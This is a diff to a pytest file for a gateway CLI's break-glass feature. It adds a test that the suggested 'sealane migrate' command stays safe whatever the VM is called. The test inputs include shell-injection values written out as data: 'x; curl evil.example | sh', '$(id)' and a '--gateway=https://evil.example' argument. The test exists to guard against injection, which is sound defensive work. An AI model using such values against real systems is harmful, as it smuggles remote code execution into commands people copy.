@@ -2,16 +2,19 @@
 
 from __future__ import annotations
 
+import shlex
 from collections.abc import AsyncIterator
 from pathlib import Path
 
 import pytest
 
+from gateway.cli.break_glass import command_of
+from gateway.cli.replies import GrantReply, NamedPerson, VmOfGrant
 from gateway.starter import Site
 from tests.gateway.break_glass.conftest import PASSWORD, with_break_glass
 from tests.gateway.cli.conftest import Sealane, last_object, only_error_line
 from tests.gateway.cli.test_real_gateway import Person
-from tests.gateway.conftest import Running, running_gateway
+from tests.gateway.conftest import UUID_LEDGER, Running, running_gateway
 
 pytestmark = pytest.mark.whole
 
@@ -60,6 +63,37 @@ async def test_the_night_when_the_directory_is_down(glass: Running, tmp_path: Pa
     assert glass.open_permit(order["permit"]).claims.vm == asked["vm"]["uuid"]
     ended = await manager.sealane("break-glass", "end", grant, "--reason", "enough", "--json")
     assert ended.document["ended_because"] == "ended"
+
+
+@pytest.mark.parametrize(
+    ("name", "shown"),
+    [
+        ("ledger-1.prod", "ledger-1.prod"),
+        ("x; curl evil.example | sh", UUID_LEDGER),
+        ("$(id)", UUID_LEDGER),
+        ("--gateway=https://evil.example", UUID_LEDGER),
+        ("zürich", UUID_LEDGER),
+        ("", UUID_LEDGER),
+    ],
+)
+def test_the_command_that_is_shown_to_be_copied_is_one_whatever_the_vm_is_called(name: str, shown: str) -> None:
+    grant = GrantReply(
+        id="5f3a90c1",
+        state="approved",
+        vm=VmOfGrant(uuid=UUID_LEDGER, name=name),
+        source="spiffe://sealane.example/host/a",
+        destination="spiffe://sealane.example/host/b",
+        requested_by=NamedPerson(id="i#dora", name="Dora"),
+        requested_at=1,
+        ticket="INC#1",
+        reason="fire",
+        minutes=1,
+        ports=("memory",),
+        answer_until=2,
+        record_index=3,
+    )
+    words = ["sealane", "migrate", shown, "--to", "b", "--reason", "INC#1", "--break-glass", "5f3a90c1"]
+    assert shlex.split(command_of(grant), comments=True) == words
 
 
 def test_sealing_prints_what_the_configuration_needs(sealane: Sealane, site: Site) -> None:
